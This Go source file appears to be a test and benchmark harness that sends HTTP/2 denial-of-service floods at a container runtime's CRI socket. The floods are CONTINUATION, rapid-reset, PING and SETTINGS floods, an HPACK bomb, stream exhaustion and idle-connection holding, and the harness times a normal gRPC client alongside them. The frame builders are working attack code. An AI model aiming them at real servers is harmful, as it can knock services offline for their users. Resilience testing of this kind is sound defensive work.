// HTTP/2 floods at a CRI socket, and the well-behaved grpc-go client that runs beside them
// (test/support/floods.ts drives both; bench/floods.ts prints the table).
//
//	h2-peers flood -socket S -attack NAME -duration 3s   -> {"attack":..,"frames":..,"closedAfterMs":..}
//	h2-peers flood -socket S -good -every 100ms -duration 4s -> {"calls":..,"ok":..,"codes":{..},"p99Ms":..}
//	h2-peers flood -socket S -idle 300                   -> holds 300 idle connections until stdin closes; prints {"held":N} once open
//
// Attacks write frames as fast as the socket takes them; those marked "never reads" never
// read a byte of what the server owes them. closedAfterMs is when the server closed the
// connection (EOF or a failed write), -1 if it never did.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sort"
	"sync"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/status"
)

var request = block(":method", "POST", ":scheme", "http", ":path", "/runtime.v1.RuntimeService/Version", ":authority", "localhost", "content-type", "application/grpc", "te", "trailers", "user-agent", "h2-flood")
var emptyMessage = []byte{0, 0, 0, 0, 0}

type floodAttack struct {
	reads bool
	start func() []byte             // once, after the preface
	batch func(next *uint32) []byte // repeated; next is the next stream id to use
}

func rst(id uint32) []byte { return fr(RST, 0, id, u32(8)) }

var floodAttacks = map[string]floodAttack{
	"continuation": {reads: true, start: func() []byte { return fr(HEADERS, 0, 1, request) },
		batch: func(*uint32) []byte { return fr(CONTINUATION, 0, 1, nil) }},
	"rapid-reset": {reads: true, batch: func(n *uint32) []byte {
		id := *n
		*n += 2
		return append(append(fr(HEADERS, END_HEADERS, id, request), fr(DATA, END_STREAM, id, emptyMessage)...), rst(id)...)
	}},
	"ping":     {reads: false, batch: func(*uint32) []byte { return fr(PING, 0, 0, make([]byte, 8)) }},
	"settings": {reads: false, batch: func(*uint32) []byte { return fr(SETTINGS, 0, 0, nil) }},
	// A call answered and closed, then DATA on it again and again: each once earned a RST_STREAM.
	"data-on-closed": {reads: false, start: func() []byte {
		return append(fr(HEADERS, END_HEADERS, 1, request), fr(DATA, END_STREAM, 1, emptyMessage)...)
	}, batch: func(*uint32) []byte { return fr(DATA, 0, 1, []byte("x")) }},
	"empty-headers": {reads: true, batch: func(n *uint32) []byte { id := *n; *n += 2; return fr(HEADERS, END_HEADERS|END_STREAM, id, nil) }},
	"empty-data": {reads: true, start: func() []byte { return fr(HEADERS, END_HEADERS, 1, request) },
		batch: func(*uint32) []byte { return fr(DATA, 0, 1, nil) }},
	"priority": {reads: true, batch: func(n *uint32) []byte {
		id := *n
		*n += 2
		return fr(PRIORITY, 0, id, []byte{0, 0, 0, 0, 16})
	}},
	// One 4000-byte field in the dynamic table, then blocks of references to it (each block would expand 4000x).
	"hpack-bomb": {reads: true, start: func() []byte {
		big := make([]byte, 0, 4010)
		big = append(big, 0x40, 1, 'x', 0x7f, 0x80+(4000-127)%128, (4000-127)/128)
		for i := 0; i < 4000; i++ {
			big = append(big, 'a')
		}
		return fr(HEADERS, END_HEADERS, 1, append(append([]byte{}, request...), big...))
	}, batch: func(n *uint32) []byte {
		id := *n
		*n += 2
		refs := make([]byte, 16000)
		for i := range refs {
			refs[i] = 0x80 | 62
		}
		return fr(HEADERS, END_HEADERS|END_STREAM, id, append(append([]byte{}, request...), refs...))
	}},
	// Streams opened and held (no END_STREAM), past the limit.
	"streams": {reads: true, batch: func(n *uint32) []byte { id := *n; *n += 2; return fr(HEADERS, END_HEADERS, id, request) }},
}

func floodMain(args []string) {
	flag := flag.NewFlagSet("flood", flag.ExitOnError)
	socket := flag.String("socket", "", "the CRI socket")
	name := flag.String("attack", "", "the flood to send")
	good := flag.Bool("good", false, "be the well-behaved grpc-go client instead")
	every := flag.Duration("every", 100*time.Millisecond, "good: one Version call this often")
	duration := flag.Duration("duration", 3*time.Second, "how long")
	idle := flag.Int("idle", 0, "hold this many idle connections until stdin closes")
	flag.Parse(args)
	out := json.NewEncoder(os.Stdout)
	switch {
	case *good:
		out.Encode(goodClient(*socket, *every, *duration))
	case *idle > 0:
		var conns []net.Conn
		for i := 0; i < *idle; i++ {
			c, err := net.Dial("unix", *socket)
			if err != nil {
				break
			}
			c.Write(append([]byte(preface), fr(SETTINGS, 0, 0, nil)...))
			go io.Copy(io.Discard, c)
			conns = append(conns, c)
		}
		out.Encode(map[string]int{"held": len(conns)})
		io.Copy(io.Discard, os.Stdin)
	default:
		a, ok := floodAttacks[*name]
		if !ok {
			fmt.Fprintln(os.Stderr, "unknown attack", *name)
			os.Exit(2)
		}
		out.Encode(flood(*socket, *name, a, *duration))
	}
}

func flood(socket, name string, a floodAttack, d time.Duration) map[string]interface{} {
	c, err := net.Dial("unix", socket)
	if err != nil {
		return map[string]interface{}{"attack": name, "error": err.Error()}
	}
	defer c.Close()
	start := time.Now()
	closed := make(chan time.Duration, 2)
	if a.reads {
		go func() { io.Copy(io.Discard, c); closed <- time.Since(start) }()
	}
	hello := append([]byte(preface), fr(SETTINGS, 0, 0, nil)...)
	if a.start != nil {
		hello = append(hello, a.start()...)
	}
	frames := 0
	if _, err := c.Write(hello); err != nil {
		closed <- time.Since(start)
	}
	next := uint32(3)
	for time.Since(start) < d && len(closed) == 0 {
		var buf []byte
		n := 0
		for len(buf) < 32*1024 {
			buf = append(buf, a.batch(&next)...)
			n++
		}
		c.SetWriteDeadline(time.Now().Add(d - time.Since(start)))
		if _, err := c.Write(buf); err != nil {
			if ne, ok := err.(net.Error); !ok || !ne.Timeout() {
				closed <- time.Since(start)
			}
			break
		}
		frames += n
	}
	result := map[string]interface{}{"attack": name, "frames": frames, "closedAfterMs": -1, "reads": a.reads}
	select {
	case at := <-closed:
		result["closedAfterMs"] = float64(at.Microseconds()) / 1000
	case <-time.After(200 * time.Millisecond):
	}
	return result
}

type rawCodec struct{}

func (rawCodec) Marshal(v interface{}) ([]byte, error)      { return *(v.(*[]byte)), nil }
func (rawCodec) Unmarshal(data []byte, v interface{}) error { *(v.(*[]byte)) = data; return nil }
func (rawCodec) Name() string                               { return "proto" }

func goodClient(socket string, every, d time.Duration) map[string]interface{} {
	dialer := func(ctx context.Context, addr string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "unix", addr)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	conn, err := grpc.DialContext(ctx, socket, grpc.WithInsecure(), grpc.WithBlock(), grpc.WithContextDialer(dialer), grpc.WithAuthority("localhost"))
	if err != nil {
		return map[string]interface{}{"error": err.Error()}
	}
	defer conn.Close()
	var mu sync.Mutex
	var lat []float64
	codes := map[string]int{}
	var wg sync.WaitGroup
	tick := time.NewTicker(every)
	defer tick.Stop()
	end := time.Now().Add(d)
	for time.Now().Before(end) {
		<-tick.C
		wg.Add(1)
		go func() {
			defer wg.Done()
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
			defer cancel()
			req, answer := []byte{}, []byte{}
			t := time.Now()
			err := conn.Invoke(ctx, "/runtime.v1.RuntimeService/Version", &req, &answer, grpc.ForceCodec(rawCodec{}))
			ms := float64(time.Since(t).Microseconds()) / 1000
			mu.Lock()
			defer mu.Unlock()
			lat = append(lat, ms)
			codes[status.Code(err).String()]++
		}()
	}
	wg.Wait()
	sort.Float64s(lat)
	pick := func(q float64) float64 {
		if len(lat) == 0 {
			return 0
		}
		return lat[int(q*float64(len(lat)-1))]
	}
	return map[string]interface{}{"calls": len(lat), "ok": codes["OK"], "codes": codes, "p50Ms": pick(0.5), "p99Ms": pick(0.99), "maxMs": pick(1)}
}
